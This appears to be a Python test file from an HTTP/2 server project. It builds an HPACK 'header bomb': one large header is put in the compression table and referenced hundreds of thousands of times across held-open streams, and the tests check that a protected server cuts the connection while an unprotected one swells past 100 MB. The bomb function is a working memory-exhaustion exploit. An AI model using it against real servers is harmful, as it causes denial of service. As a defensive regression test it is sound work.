"""A byte of HPACK that stands for four kilobytes, many times."""
import contextlib
import unittest

from attack import AttackTest, frame

BLOCK = 390000
STREAMS = 20


def bomb(target, seconds=30):
    """8 MB on the wire; the most memory that the server took, while streams are held."""
    c = target.http2()
    before = target.memory()
    most = 0
    # One field of 4,000 bytes into the table, then references to it.
    name, value = b"x-bomb", b"a" * 3900
    literal = (b"\x40" + bytes([len(name)]) + name +
               b"\x7f" + bytes([(len(value) - 127) & 127 | 128, (len(value) - 127) >> 7]) + value)
    pseudo = b"\x82\x87\x84\x01\x09localhost"
    stream = 1
    with contextlib.suppress(OSError):
        for n in range(STREAMS):
            block = pseudo + (literal if n == 0 else b"") + b"\xbe" * BLOCK
            parts = [block[i:i + 16000] for i in range(0, len(block), 16000)]
            # No END_STREAM: the request waits for its body and holds its header.
            c.sock.sendall(frame(1, 0, stream, parts[0]))
            for i, part in enumerate(parts[1:], 2):
                c.sock.sendall(frame(9, 4 if i == len(parts) else 0, stream, part))
            stream += 2
            most = max(most, target.memory() - before)
        for _ in c.events(seconds):	# until the connection is cut
            most = max(most, target.memory() - before)
    most = max(most, target.memory() - before)
    c.close()
    return most


class HeaderBombTest(AttackTest):
    def test_is_refused(self):
        def attack(target):
            grown = bomb(target)
            return grown, target.counts('hayloft_connections_cut_total{reason="header"}')
        grown, cut = self.unharmed(attack)
        self.assertLess(grown, 20 << 20)
        self.assertGreater(cut, 0)

    def test_bare_swells(self):
        self.assertGreater(self.against_bare(bomb, 5), 100 << 20)


if __name__ == "__main__":
    unittest.main()
